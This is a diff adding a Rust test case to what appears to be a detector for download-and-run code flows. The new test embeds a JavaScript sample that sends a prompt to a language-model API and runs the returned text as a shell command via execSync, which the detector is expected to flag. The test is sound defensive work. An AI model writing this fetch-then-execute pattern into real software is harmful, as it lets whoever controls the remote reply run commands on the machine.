@@ -326,3 +326,12 @@ fn a_digest_is_worked_out_of_a_download_and_nothing_is_started() {
     has_not(JavaScript, code, "flow-download-run");
     has(JavaScript, &code.replace("'sha256sum', ['/opt/a.tar.gz']", "'/opt/a.tar.gz', []"), "flow-download-run");
 }
+
+#[test]
+fn a_model_that_is_asked_what_stands_in_the_script_is_somebody_else_s() {
+    let code = "const { execSync } = require('child_process');\n\
+                (async () => { const r = await (await fetch('https://api.openai.com/v1/chat/completions', \
+                { method: 'POST', body: '{\"messages\":[{\"content\":\"list all documents\"}]}' })).json(); \
+                execSync(r.choices[0].message.content); })();";
+    has(JavaScript, code, "flow-download-run");
+}
